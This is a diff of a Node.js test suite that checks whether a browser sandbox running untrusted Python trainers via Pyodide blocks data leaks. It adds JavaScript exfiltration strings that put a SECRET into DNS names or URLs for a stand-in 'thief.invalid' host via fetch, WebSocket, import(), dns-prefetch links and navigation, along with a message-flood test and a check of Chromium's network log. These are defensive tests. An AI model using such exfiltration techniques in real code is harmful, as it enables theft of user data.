@@ -1,16 +1,20 @@
 // A stranger's trainer in the tab, by the name of what it tries: nothing of the rows may leave by any of it. The trainers
 // are Python, as real ones are, and reach for the worker's own functions through Pyodide's `js`.
 import assert from 'node:assert/strict'
-import { readdirSync, readFileSync } from 'node:fs'
+import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
 import { createServer } from 'node:http'
+import { tmpdir } from 'node:os'
 import { extname, join } from 'node:path'
 import { after, before, test } from 'node:test'
 import { fileURLToPath } from 'node:url'
-import { newContext, startBrowser } from './browser.mjs'
+import { startBrowser } from './browser.mjs'
 
 const DIST = fileURLToPath(new URL('../dist/', import.meta.url))
 const TYPES = { '.html': 'text/html', '.js': 'text/javascript', '.mjs': 'text/javascript', '.css': 'text/css' }
 const CHUNK = readdirSync(join(DIST, 'assets')).find((name) => /^scriptFrame-.*\.js$/.test(name))
+
+/** Where Chromium writes down all that its network stack does: names that it looks up, connections, requests. */
+const LOG = mkdtempSync(join(tmpdir(), 'deml-trainer-'))
 
 let page
 let host
@@ -43,9 +47,13 @@ before(async () => {
   })
   thief.on('connection', () => stolen.push('connection'))
   for (const server of [host, thief]) await new Promise((done) => server.listen(0, '127.0.0.1', done))
-  browser = await startBrowser()
-  const { context } = await newContext(browser)
-  page = await context.newPage()
+  browser = await startBrowser(
+    `--log-net-log=${join(LOG, 'net.json')}`,
+    '--net-log-capture-mode=Everything',
+    '--host-resolver-rules=MAP *.invalid ~NOTFOUND',
+  )
+  // Nothing is held back before Chromium's network stack, which would then log nothing; no name leads anywhere.
+  page = await browser.newPage()
   await page.goto(`http://127.0.0.1:${host.address().port}/`)
 })
 
@@ -53,6 +61,7 @@ after(async () => {
   await browser?.close()
   host?.close()
   thief?.close()
+  rmSync(LOG, { recursive: true, force: true })
 })
 
 /** Run a trainer as the page does; resolves with what it printed, and its model's bytes or why there are none. */
@@ -141,6 +150,14 @@ const TRICKS = {
     'return String(navigator.sendBeacon && navigator.sendBeacon("http://" + THIEF + "/" + SECRET))',
   'a report of a broken policy, with the secret in its address':
     'fetch.call(self, "http://" + THIEF + "/?" + SECRET); return 1',
+  'a name that spells it: fetch': 'return String(fetch("http://" + SECRET + ".thief.invalid/"))',
+  'a name that spells it: WebSocket': 'return String(new WebSocket("ws://" + SECRET + ".thief.invalid/").readyState)',
+  'a name that spells it: import()': 'return String(import("http://" + SECRET + ".thief.invalid/"))',
+  'a name that spells it: a link to prefetch':
+    'const one = document.createElement("link"); one.rel = "dns-prefetch"; one.href = "http://" + SECRET + ".thief.invalid"; document.head.append(one); return 1',
+  'navigation of its own': 'location.href = "http://" + THIEF + "/" + SECRET; return String(location)',
+  'navigation: a new window': 'return String(open("http://" + THIEF + "/" + SECRET))',
+  'navigation of the page': 'top.location = "http://" + THIEF + "/" + SECRET; return 1',
   'the page that embeds it': 'return String(self.parent) + String(self.top) + String(self.document)',
 }
 
@@ -169,6 +186,14 @@ test('nothing leaves by', { timeout: 300_000 }, async (all) => {
   assert.deepEqual(found.since, [], 'nothing was asked of the page’s host')
 })
 
+test('messages without end, past Python', { timeout: 200_000 }, async () => {
+  const found = await run(
+    trying(['for (let n = 0; n < 100_000; n += 1) postMessage({ line: "x".repeat(600) }); return 1']),
+  )
+  assert.match(found.failed, /printed too much/)
+  assert.ok(found.lines.every((line) => line.length <= 500))
+})
+
 test('messages without end', { timeout: 200_000 }, async () => {
   const found = await run('while True: print("x" * 10_000)')
   assert.match(found.failed, /printed too much/)
@@ -185,4 +210,12 @@ test('messages that pretend to be something else', { timeout: 200_000 }, async (
   const code =
     'for (const one of [null, 7, { line: 5 }, { model: "x", left: ["model.safetensors"] }]) postMessage(one); return 1'
   assert.match((await run(trying([code]))).failed, /left no model/)
+})
+
+test('not even a name was looked up: Chromium’s own log of its network', { timeout: 200_000 }, async () => {
+  await page.evaluate(() => fetch('https://control.thief.invalid/').catch(() => {}))
+  await browser.close()
+  const log = readFileSync(join(LOG, 'net.json'), 'utf8').toLowerCase()
+  assert.ok(log.includes('control.thief.invalid'), 'what the page itself asks for is in the log')
+  assert.doesNotMatch(log, /secret/)
 })
